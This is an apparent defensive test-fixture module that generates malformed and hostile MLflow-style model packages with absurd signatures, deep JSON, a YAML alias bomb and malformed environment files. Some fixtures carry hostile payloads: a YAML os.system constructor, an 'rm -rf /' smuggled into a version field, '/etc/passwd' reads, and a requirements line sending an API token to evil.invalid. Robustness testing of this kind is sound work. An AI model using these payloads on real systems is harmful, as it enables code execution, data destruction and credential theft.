"""Signatures, params, recorded answers and environment files of absurd sizes and shapes."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from hostile_packages.bases import COLUMNS, iris_package, manifest
from hostile_packages.package import EITHER, HostilePackage

_ROW = {"dataframe_split": {"columns": COLUMNS, "data": [[5.1, 3.5, 1.4, 0.2]]}}


def shapes() -> Iterator[HostilePackage]:
    for name, (signature, quick) in _SIGNATURES.items():
        yield HostilePackage("signature", name, _signed(signature), EITHER, quick=quick)
    for name, files in _RECORDED.items():
        yield HostilePackage("recorded", name, _beside(files), EITHER, quick=True)


def _tensor(*shape: int, dtype: str = "float64") -> list[dict[str, Any]]:
    return [{"type": "tensor", "tensor-spec": {"dtype": dtype, "shape": list(shape)}}]


def _column(name: Any, kind: Any = "double", **more: Any) -> dict[str, Any]:
    return {"type": kind, "name": name, "required": True, **more}


def _nested(depth: int) -> dict[str, Any]:
    kind: dict[str, Any] = {"type": "double"}
    for _ in range(depth):
        kind = {"type": "array", "items": kind}
    return _column("a", **kind)


# Inputs, or inputs and params; and whether a look at them is quick.
_SIGNATURES: dict[str, tuple[dict[str, Any], bool]] = {
    "rows of a billion numbers": ({"inputs": _tensor(-1, 10**9)}, False),
    "rows of 10^18 numbers": ({"inputs": _tensor(-1, 10**18)}, False),
    "rows of 2^40 numbers in each of three axes": ({"inputs": _tensor(-1, 2**40, 2**40, 2**40)}, False),
    "a shape of a thousand axes": ({"inputs": _tensor(-1, *[1] * 1000)}, False),
    "a shape of negative numbers": ({"inputs": _tensor(-5, -7)}, True),
    "a shape of numbers with a point": ({"inputs": _tensor(-1, 4.5, 1e300)}, True),  # type: ignore[arg-type]
    "a dtype that is a record": ({"inputs": _tensor(-1, 4, dtype="f8,f8,(1000000000,)f8")}, True),
    "a dtype of a gigabyte": ({"inputs": _tensor(-1, 4, dtype="S1000000000")}, False),
    "20,000 columns": ({"inputs": [_column(f"c{i}") for i in range(20_000)]}, False),
    "columns of one name": ({"inputs": [_column("a") for _ in range(2_000)]}, False),
    "a name of half a megabyte": ({"inputs": [_column("a" * 500_000)]}, False),
    "names that differ by normalisation": ({"inputs": [_column("é"), _column("e\u0301")]}, False),
    "names that are no text": ({"inputs": [_column(1), _column(None), _column([1]), _column({"a": 1})]}, True),
    "names with ends of lines and escapes": ({"inputs": [_column("a\n\x1b[31mb\u202e")]}, False),
    "arrays in arrays": ({"inputs": [_nested(200)]}, False),
    "a default of a megabyte": ({"inputs": None, "params": [{"name": "p", "type": "string", "default": "x" * 500_000, "shape": None}]}, False),
    "a default of another type": ({"inputs": None, "params": [{"name": "p", "type": "long", "default": "x", "shape": None}]}, False),
    "20,000 params": ({"inputs": None, "params": [{"name": f"p{i}", "type": "long", "default": i, "shape": None} for i in range(20_000)]}, False),
    "params of one name": ({"inputs": None, "params": [{"name": "p", "type": "long", "default": i, "shape": None} for i in range(9)]}, False),
    "a param of 10^9 numbers": ({"inputs": None, "params": [{"name": "p", "type": "long", "default": [1], "shape": [10**9]}]}, False),
    "a param without an end": ({"inputs": None, "params": [{"name": "p", "type": "double", "default": float("inf"), "shape": None}]}, False),
}  # fmt: skip


def _signed(signature: dict[str, Any]) -> Callable[[Path], None]:
    texts = {key: json.dumps(value) if value is not None else None for key, value in signature.items()}
    whole = {"inputs": None, "outputs": None, "params": None, **texts}
    return lambda place: iris_package(
        place, mlmodel=json.dumps(manifest(signature=whole))
    )  # which is YAML, and soon written


def _deep(brackets: int) -> bytes:
    return b"[" * brackets + b"]" * brackets


_EXAMPLE = json.dumps(_ROW).encode()
_RECORDED: dict[str, dict[str, bytes]] = {
    "an answer of other rows": {"serving_input_example.json": _EXAMPLE, "expected_output.json": b"[0, 1, 2]"},
    "an answer of other shapes": {"serving_input_example.json": _EXAMPLE, "expected_output.json": b"[[[0]]]"},
    "an answer that is an object": {"serving_input_example.json": _EXAMPLE, "expected_output.json": b'{"a": NaN}'},
    "an answer of brackets": {"serving_input_example.json": _EXAMPLE, "expected_output.json": _deep(100_000)},
    "an answer of brackets few enough": {"serving_input_example.json": _EXAMPLE, "expected_output.json": _deep(900)},
    "an answer of 8 MB": {"serving_input_example.json": _EXAMPLE, "expected_output.json": b"[" + b"0," * 4_000_000 + b"0]"},
    "an answer that is no JSON": {"serving_input_example.json": _EXAMPLE, "expected_output.json": b"\xff\xfe"},
    "an answer of a long number": {"serving_input_example.json": _EXAMPLE, "expected_output.json": b"[" + b"9" * 100_000 + b"]"},
    "an answer with escapes": {"serving_input_example.json": _EXAMPLE, "expected_output.json": b'["\\u001b[31mred\\n00:00:00 ERROR forged"]'},
    "cells that are no numbers": {"serving_input_example.json": b'{"dataframe_split": {"columns": ["sepal_length"], "data": [[NaN], [Infinity], [1e400]]}}'},
    "a long number": {"serving_input_example.json": b'{"inputs": [[' + b"9" * 1_000_000 + b", 1, 1, 1]]}"},
    "params that nobody knows": {"serving_input_example.json": b'{"inputs": [[1, 1, 1, 1]], "params": {"a": ' + _deep(200) + b"}}"},
    "keys that are all one": {"serving_input_example.json": b'{"dataframe_records": [{' + b'"a": 1, ' * 200_000 + b'"a": 1}]}'},
    "a conda.yaml of aliases": {"conda.yaml": "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9) if i else 'x'}]\n" for i in range(9)).encode()},
    "a conda.yaml that names Python": {"conda.yaml": b"x: !!python/object/apply:os.system ['touch /tmp/penstock-was-here']\n"},
    "a conda.yaml of brackets": {"conda.yaml": b"[" * 500_000},
    "a python_env.yaml of other things": {"python_env.yaml": b"python: [1, 2]\nbuild_dependencies: {a: b}\ndependencies: 5\n"},
    "a python_env.yaml of a forged version": {"python_env.yaml": b"python: \"3.12; rm -rf / \\e[31m\"\ndependencies: ['-r /etc/passwd']\n"},
    "requirements with ends of lines of all kinds": {"requirements.txt": "numpy==2.1.0\\\n\r--index-url x\x0b-e .\x85-r /etc/passwd\u2028git+https://evil.invalid/x.git\n".encode()},
    "requirements that are no text": {"requirements.txt": b"\xff\xfe\x00n\x00u"},
    "requirements with variables": {"requirements.txt": b"numpy==${HOME}\n${PENSTOCK_API_TOKEN} @ https://evil.invalid/${PENSTOCK_API_TOKEN}\n"},
}  # fmt: skip


def _beside(files: dict[str, bytes]) -> Callable[[Path], None]:
    def make(place: Path) -> None:
        iris_package(place)
        for name, content in files.items():
            (place / name).write_bytes(content)

    return make
